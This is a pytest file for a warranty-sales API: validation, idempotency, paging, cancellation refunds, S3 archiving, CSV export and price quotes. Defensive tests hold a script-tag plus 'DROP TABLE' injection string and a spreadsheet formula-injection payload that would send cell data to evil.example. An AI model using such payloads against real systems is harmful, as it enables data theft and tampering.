"""The routes: statuses, shapes, pages, and every fault named (W1, W5, W7, 2r, 2c, 2d)."""

import csv
import io
import json
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from chalice.test import Client, HTTPResponse

from chalicelib.core.models import PageQuery
from chalicelib.core.paging import Pages
from chalicelib.warranties import archive, routes
from chalicelib.warranties.models import ListQuery, WarrantiesQuery
from chalicelib.warranties.ports import RefusalPosition, SalePosition
from chalicelib.warranties.wiring import archiver
from tests.support.dynamodb import items
from tests.support.warranties.fakes import SOFA
from tests.unit.warranties.test_warranty_fields import BRIEFS_SAMPLE

JSON = {"Content-Type": "application/json"}
SKU = SOFA["item_sku"]
ALL = {"sku": SKU, "item_type": "furniture", "store_uuid": SOFA["store_uuid"]}
SHAPE = [
    "id",
    "store_id",
    "store_uuid",
    "item_type",
    "item_sku",
    "item_title",
    "item_cost",
    "warranty_price",
    "warranty_duration_months",
    "rate_card",
    "created_at",
    "number",
    "currency",
    "cancelled_at",
    "refund",
]


def post(client: Client, key: str | None = None, **told: Any) -> HTTPResponse:
    headers = {**JSON, "Idempotency-Key": key} if key else JSON
    raw = json.dumps({**SOFA, **told}).encode()
    return client.http.post("/warranties", headers=headers, body=raw)


def get(client: Client, path: str, **query: Any) -> HTTPResponse:
    return client.http.get(f"{path}?{urlencode(query)}" if query else path)


def faults(answer: HTTPResponse) -> set[str]:
    assert answer.status_code == 400, answer.body
    assert answer.headers["Content-Type"] == "application/problem+json"
    return {each["field"] for each in answer.json_body["errors"]}


# --- POST -----------------------------------------------------------------------------------------


def test_w5_2r_a_sale_answers_its_warranties(client: Client) -> None:
    answer = post(client)

    assert answer.status_code == 201
    told = answer.json_body
    assert list(told) == ["request_id", "warranties", "reason"]
    assert [list(each) for each in told["warranties"]] == [SHAPE, SHAPE]
    assert [(w["warranty_price"], w["warranty_duration_months"]) for w in told["warranties"]] == [
        (20, 12),
        (27, 24),
    ]
    assert b'"warranty_price":20.00' in answer.body
    assert told["reason"] is None


def test_2c3_no_plan_is_200_with_a_reason(client: Client) -> None:
    answer = post(client, item_cost=5)

    assert answer.status_code == 200
    assert answer.json_body["warranties"] == []
    assert answer.json_body["reason"] == "cost below 10.00"


@pytest.mark.parametrize(
    ("raw", "named"),
    [
        (b"{}", set(SOFA)),
        (b"", {"(body)"}),
        (b"[]", {"(body)"}),
        (BRIEFS_SAMPLE, {"(body)"}),
        (
            json.dumps({**SOFA, "item_cost": "150", "item_sku": ""}).encode(),
            {"item_cost", "item_sku"},
        ),
        (json.dumps(SOFA).replace("150", "NaN").encode(), {"(body)"}),
        (json.dumps(SOFA).replace("150", "-0.001").encode(), {"item_cost"}),
        (b'{"item_sku": "a", "item_sku": "b"}', {"(body)"}),
    ],
)
def test_2d_w1_a_wrong_body_is_400_and_stores_nothing(
    client: Client, dynamodb: Any, names: Any, raw: bytes, named: set[str]
) -> None:
    answer = client.http.post("/warranties", headers=JSON, body=raw)

    assert faults(answer) == named
    assert items(dynamodb, names.table) == items(dynamodb, names.outbox) == []


@pytest.mark.parametrize(
    "headers",
    [{}, {"Content-Type": "application/x-www-form-urlencoded"}, {"Content-Type": "text/plain"}],
)
def test_2d_a_body_that_is_not_json_by_name_is_415(client: Client, headers: Any) -> None:
    raw = json.dumps(SOFA).encode()

    assert client.http.post("/warranties", headers=headers, body=raw).status_code == 415


def test_2d_a_body_over_16_kb_is_413(client: Client) -> None:
    assert post(client, note="x" * 16_384).status_code == 413


def test_another_verb_is_405(client: Client) -> None:
    answer = client.http.put("/warranties", headers=JSON, body=b"{}")

    assert (answer.status_code, answer.headers["Allow"]) == (405, "GET, HEAD, OPTIONS, POST")


def test_2b_a_key_repeats_the_answer_to_the_letter(client: Client) -> None:
    first, again = post(client, "k"), post(client, "k", item_cost=150.0)

    assert (first.status_code, again.status_code) == (201, 201)
    assert again.body == first.body
    assert "Idempotent-Replayed" not in first.headers
    assert again.headers["Idempotent-Replayed"] == "true"
    assert len(get(client, "/warranties").json_body) == 2


def test_2b_a_key_repeats_a_refusal_as_the_200_that_it_was(client: Client) -> None:
    first, again = (post(client, "k", item_type="spaceship") for _ in range(2))

    assert (first.status_code, again.status_code) == (200, 200)
    assert again.body == first.body
    assert get(client, "/plans/refusals").json_body[0]["count"] == 1


def test_2d_a_key_that_was_used_for_another_body_is_422(client: Client) -> None:
    post(client, "k")

    answer = post(client, "k", item_cost=151)

    assert answer.status_code == 422
    assert answer.json_body["type"] == "/problems/idempotency-key-reused"
    assert "item_cost" in answer.json_body["detail"]


@pytest.mark.parametrize("key", ["x" * 256, "é"])
def test_a_key_that_is_none_is_400(client: Client, key: str) -> None:
    assert faults(post(client, key)) == {"Idempotency-Key"}


def test_2d_titles_are_stored_and_shown_literally(client: Client) -> None:
    title = '<script>alert("🛋️")</script> \'; DROP TABLE'

    post(client, item_title=title)

    [shown, _] = get(client, "/warranties").json_body
    assert shown["item_title"] == title


# --- GET ------------------------------------------------------------------------------------------


def test_w7_what_was_just_posted_is_found(client: Client) -> None:
    made = post(client).json_body["warranties"]
    post(client, store_uuid="other")

    assert get(client, "/warranties", **ALL).json_body == made
    assert get(client, "/warranties", **ALL, match="any-given").json_body == made
    assert len(get(client, "/warranties").json_body) == 4
    upper = {**ALL, "store_uuid": ALL["store_uuid"].upper()}
    assert get(client, "/warranties", **upper).json_body == made


def test_2d_no_hit_is_an_empty_array(client: Client) -> None:
    answer = get(client, "/warranties", **ALL)

    assert (answer.status_code, answer.body) == (200, b"[]")


@pytest.mark.parametrize("name", ALL)
def test_2c5_one_filter_alone_names_the_two_that_are_missing(client: Client, name: str) -> None:
    post(client)

    assert faults(get(client, "/warranties", **{name: ALL[name]})) == ALL.keys() - {name}
    found = get(client, "/warranties", match="any-given", **{name: ALL[name]})
    assert len(found.json_body) == 2


@pytest.mark.parametrize(
    ("query", "named"),
    [
        ("item_sku=x", {"item_sku"}),
        ("sku=&item_type=furniture&store_uuid=b", {"sku"}),
        ("sku=a&sku=b&item_type=furniture&store_uuid=b", {"sku"}),
        ("match=any-given&sku=a&sku=a", {"sku"}),
        ("limit=0&cursor=", {"limit", "cursor"}),
        ("limit=1001", {"limit"}),
        ("limit=1&limit=2", {"limit"}),
        ("colour=red", {"colour"}),
        ("cursor=nonsense", {"cursor"}),
        ("sku=x&limit=0", {"item_type", "store_uuid", "limit"}),
    ],
)
def test_2c6_2d_a_wrong_query_is_400_with_every_fault(
    client: Client, query: str, named: set[str]
) -> None:
    assert faults(client.http.get(f"/warranties?{query}")) == named


def test_2d_a_cursor_of_another_list_or_of_other_filters_is_400(client: Client) -> None:
    post(client)
    place = SalePosition("furniture", 0)
    ours = sealed(routes._WARRANTIES, ListQuery(), place)

    assert get(client, "/warranties", cursor=ours).status_code == 200
    assert faults(get(client, "/warranties", cursor=ours, **ALL)) == {"cursor"}
    assert faults(get(client, "/plans/refusals", cursor=ours)) == {"cursor"}
    csv = f"/stores/{SOFA['store_uuid']}/warranties.csv"
    assert faults(get(client, csv, cursor=ours)) == {"cursor"}


@pytest.mark.parametrize("place", ["\U0010ffff", "\x00", "\x1f", "a" * 980])
def test_a_cursor_to_nowhere_finds_what_comes_after_it_or_nothing(
    client: Client, place: str
) -> None:
    post(client)

    for asked in ({}, ALL):
        query = WarrantiesQuery.model_validate(asked)
        cursor = sealed(routes._WARRANTIES, query, SalePosition(place, 0))
        assert get(client, "/warranties", cursor=cursor, **asked).status_code == 200


def sealed(pages: Pages[Any], query: PageQuery, place: Any) -> str:
    cursor = pages.cursor(query, place)
    assert cursor
    return cursor


def test_2c7_pages_lead_to_each_other_until_all_is_told(client: Client) -> None:
    for number in range(4):
        post(client, item_sku=f"s {number} &+")
    everything = get(client, "/warranties").json_body

    path, found = "/warranties?match=any-given&item_type=furniture&limit=3", []
    while path:
        answer = client.http.get(path)
        found += answer.json_body
        told = answer.headers.get("Link", "")
        assert told.endswith('; rel="next"') or not told
        path = told[1 : told.find(">")]
        assert len(answer.json_body) == 3 or not path

    assert found == everything
    assert len(found) == 8


def test_a_warranty_explains_itself(client: Client) -> None:
    made = post(client).json_body["warranties"][0]
    post(client, item_cost=200, item_title="Sofa II")

    shown = get(client, f"/warranties/{made['id']}").json_body

    assert {name: shown[name] for name in SHAPE} == made
    assert shown["price_rule"] == "5.00 + 10 % of the cost"
    assert shown["store"]["store_id"] == made["store_id"]
    assert (shown["item"]["item_cost"], shown["item"]["item_title"]) == (200, "Sofa II")
    assert shown["archive"]["state"] == "pending"
    assert shown["archive"]["url"] is None


def test_w6_a_warranty_shows_where_it_is_archived(client: Client, s3: Any, names: Any) -> None:
    told = post(client).json_body
    assert archiver().work(f"archive#{told['request_id']}") == "done"

    shown = get(client, f"/warranties/{told['warranties'][1]['id']}").json_body["archive"]

    stored = s3.get_object(Bucket=names.bucket, Key=shown["key"])["Body"].read()
    assert shown["state"] == "done"
    assert shown["sha256"] == archive.sha256(stored)
    assert shown["url"].startswith(f"https://{names.bucket}.s3")
    assert "X-Amz-Signature" in shown["url"]


@pytest.mark.parametrize("wrong", ["1", "abc-12", "a" * 36 + "-12", "0" * 40])
def test_what_is_no_id_of_a_warranty_is_400(client: Client, wrong: str) -> None:
    assert faults(get(client, f"/warranties/{wrong}")) == {"warranty_id"}


def test_an_unknown_warranty_is_404(client: Client) -> None:
    made = post(client).json_body["warranties"][0]["id"]

    for unknown in (f"{made[:-2]}60", f"00000000-0000-4000-8000-{made[24:]}"):
        assert get(client, f"/warranties/{unknown}").status_code == 404


# --- numbers, cancelling --------------------------------------------------------------------------


def test_a_warranty_is_found_by_what_a_customer_holds(client: Client) -> None:
    made = post(client).json_body["warranties"]
    number = made[0]["number"].removesuffix("-12")

    for held in (number, number.lower().replace("-", " "), made[0]["id"][:36]):
        found = get(client, "/warranties", number=held).json_body
        assert [each["id"] for each in found] == [each["id"] for each in made]
    assert get(client, "/warranties", number=made[1]["number"]).json_body[0]["id"] == made[1]["id"]
    assert get(client, f"/warranties/{made[1]['number']}").json_body["id"] == made[1]["id"]
    assert get(client, "/warranties", number="FNVV-0BDY-A999").json_body == []


@pytest.mark.parametrize(
    "query",
    [
        {"number": "7"},
        {"number": "FNVV-0BDY-A998"},
        {"number": "FNVV-0BDY-A999", "sku": "x"},
        {"number": "FNVV-0BDY-A999", "match": "any-given"},
        {"number": ""},
    ],
)
def test_what_is_no_number_or_not_alone_is_400(client: Client, query: dict[str, str]) -> None:
    assert faults(get(client, "/warranties", **query)) == {"number"}


def cancel(client: Client, warranty_id: str, body: object = None) -> HTTPResponse:
    raw = b"" if body is None else json.dumps(body).encode()
    headers = JSON if raw else {}
    path = f"/warranties/{warranty_id}/cancellation"
    return client.http.post(path, headers=headers, body=raw)


def test_a_warranty_is_cancelled_once_by_the_rule_of_its_card(client: Client) -> None:
    made = post(client).json_body["warranties"][0]

    first = cancel(client, made["id"], {"reason": "item returned"})
    again = cancel(client, made["number"])

    assert (first.status_code, again.status_code) == (201, 200)
    assert again.headers["Idempotent-Replayed"] == "true"
    assert first.body == again.body
    assert b'"refund":20.00' in first.body
    told = first.json_body
    assert (told["currency"], told["reason"]) == ("USD", "item returned")
    assert told["calculation"] == "cancelled within 30 days: the whole price, 20.00"
    shown = get(client, f"/warranties/{made['id']}").json_body
    assert (shown["status"], shown["cancellation"]) == ("cancelled", told)
    rows = get(client, "/warranties").json_body
    assert [row["refund"] for row in rows] == [20, None]


def test_a_cancellation_is_archived(client: Client, s3: Any, names: Any) -> None:
    told = post(client).json_body
    made = told["warranties"][0]
    cancelled = cancel(client, made["id"]).json_body

    assert archiver().work(f"archive#{made['id']}#cancelled") == "done"
    assert archiver().work(f"archive#{told['request_id']}") == "done"

    shown = get(client, f"/warranties/{made['id']}").json_body
    filed = shown["cancellation"]["archive"]
    stored = s3.get_object(Bucket=names.bucket, Key=filed["key"])["Body"].read()
    assert filed["sha256"] == archive.sha256(stored)
    assert filed["key"].endswith(f"/{made['id']}-cancelled.json")
    assert b'"refund":20.00' in stored
    assert json.loads(stored)["reason"] == cancelled["reason"] == "cancelled on request"
    sold = s3.get_object(Bucket=names.bucket, Key=shown["archive"]["key"])["Body"].read()
    assert json.loads(sold)["response"]["body"]["warranties"][0]["number"] == made["number"]
    assert sold.count(b'"cancelled_at":null') == 2


@pytest.mark.parametrize(
    ("body", "named"),
    [({"reason": ""}, "reason"), ({"reason": 7}, "reason"), ({"reasons": "x"}, "reasons")],
)
def test_a_wrong_cancellation_is_400_and_cancels_nothing(
    client: Client, body: dict[str, Any], named: str
) -> None:
    made = post(client).json_body["warranties"][0]["id"]

    assert faults(cancel(client, made, body)) == {named}
    assert get(client, f"/warranties/{made}").json_body["status"] == "active"
    assert cancel(client, f"{made[:-2]}60").status_code == 404
    assert faults(cancel(client, "7")) == {"warranty_id"}


# --- CSV ------------------------------------------------------------------------------------------


def test_2b_a_store_exports_its_warranties_as_csv(client: Client) -> None:
    post(client, item_title='Sofa, "red"\u2028')
    post(client, store_uuid="other")

    answer = get(client, f"/stores/{SOFA['store_uuid'].upper()}/warranties.csv", limit=1)
    link = answer.headers["Link"]
    rest = client.http.get(link[1 : link.index(">")])

    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    names, row = csv.reader(io.StringIO(answer.body.decode("utf-8-sig"), newline=""))
    assert names == SHAPE
    told = dict(zip(names, row, strict=True))
    assert (told["item_cost"], told["warranty_price"]) == ("150.00", "20.00")
    assert told["item_title"] == 'Sofa, "red"\u2028'
    assert "27.00" in rest.body.decode()
    assert "Link" not in rest.headers


def test_a_store_without_warranties_exports_the_names_alone(client: Client) -> None:
    assert (
        get(client, "/stores/none/warranties.csv").body.decode()
        == "\ufeff" + ",".join(SHAPE) + "\r\n"
    )


def test_a_title_that_would_be_a_formula_is_a_text_in_a_spreadsheet(client: Client) -> None:
    title = '=HYPERLINK("https://evil.example/"&A1)'
    post(client, item_title=title)

    answer = get(client, f"/stores/{SOFA['store_uuid']}/warranties.csv")
    row = next(csv.DictReader(io.StringIO(answer.body.decode("utf-8-sig"), newline="")))

    assert (row["item_title"], row["item_cost"]) == (f"'{title}", "150.00")
    assert get(client, "/warranties").json_body[0]["item_title"] == title


def test_a_store_that_is_none_is_400(client: Client) -> None:
    assert faults(get(client, f"/stores/{quote('a_b')}/warranties.csv")) == {"store_uuid"}


# --- plans ----------------------------------------------------------------------------------------


def test_2b_the_rule_itself_is_readable(client: Client) -> None:
    answer = get(client, "/plans")

    told = answer.json_body
    [furniture] = [each for each in told["item_types"] if each["item_type"] == "furniture"]
    band = next(b for b in furniture["bands"] if b["cost_from"] <= 150 <= b["cost_to"])
    assert band["plans"][0] == {
        "warranty_duration_months": 12,
        "base": 5,
        "percent": 10,
        "price_rule": "5.00 + 10 % of the cost",
    }
    assert told["rate_card"] in told["rate_cards"]
    assert b'"cost_to":499.99' in answer.body
    assert get(client, "/plans", rate_card=told["rate_card"]).body == answer.body
    assert get(client, "/plans", rate_card="1999").status_code == 404
    assert faults(get(client, "/plans", version="1")) == {"version"}


def test_a_quote_is_what_a_sale_would_cost_and_stores_nothing(
    client: Client, dynamodb: Any, names: Any
) -> None:
    answer = get(client, "/plans/quote", item_type="furniture", item_cost="150.00")

    told = answer.json_body
    assert [(o["warranty_price"], o["calculation"]) for o in told["offers"]] == [
        (20, "5.00 + 10 % of 150.00 = 20.00"),
        (27, "6.00 + 14 % of 150.00 = 27.00"),
    ]
    assert b'"warranty_price":20.00' in answer.body
    assert (told["currency"], told["effective_from"]) == ("USD", "2026-11-29T00:00:00Z")
    assert told["refund_rule"].startswith("the whole price within 30 days, then the share")
    assert items(dynamodb, names.table) == items(dynamodb, names.outbox) == []
    sold = post(client).json_body["warranties"]
    assert [w["warranty_price"] for w in sold] == [o["warranty_price"] for o in told["offers"]]


def test_a_quote_of_no_plan_says_why_and_is_not_counted(client: Client) -> None:
    told = get(client, "/plans/quote", item_type="furniture", item_cost="5").json_body

    assert (told["offers"], told["reason"]) == ([], "cost below 10.00")
    assert get(client, "/plans/refusals").json_body == []


def test_a_quote_by_another_card(client: Client) -> None:
    asked = {"item_type": "toy", "item_cost": "20"}

    told = get(client, "/plans/quote", **asked, rate_card="2026-11-21").json_body

    assert (told["rate_card"], told["currency"]) == ("2026-11-21", None)
    assert told["refund_rule"] is None
    assert get(client, "/plans/quote", **asked, rate_card="1999").status_code == 404


@pytest.mark.parametrize("cost", ["", "0", "1.234", "-1", "1e3", "NaN", "1000000.01", "1,5", "+1"])
def test_a_quote_of_a_cost_that_is_none_is_400(client: Client, cost: str) -> None:
    answer = get(client, "/plans/quote", item_type="toy", item_cost=cost)

    assert faults(answer) == {"item_cost"}


def test_a_quote_names_all_that_is_missing(client: Client) -> None:
    assert faults(get(client, "/plans/quote")) == {"item_type", "item_cost"}


def test_2b_refusals_are_counted_and_paged(client: Client) -> None:
    for told in ({"item_cost": 1}, {"item_cost": 2}, {"item_type": "ship"}, {"item_type": "zoo"}):
        post(client, **told)

    first = get(client, "/plans/refusals", limit=1)
    link = first.headers["Link"]
    rest = client.http.get(link[1 : link.index(">")].replace("limit=1", "limit=9"))

    assert [(r["item_type"], r["reason"], r["count"]) for r in first.json_body] == [
        ("furniture", "cost below 10.00", 2)
    ]
    assert [r["item_type"] for r in rest.json_body] == ["ship", "zoo"]
    assert "Link" not in rest.headers
    for odd in ("\U0010ffff", "z" * 900):
        cursor = sealed(routes._REFUSALS, ListQuery(), RefusalPosition(odd, odd[:90]))
        assert get(client, "/plans/refusals", cursor=cursor).json_body == []
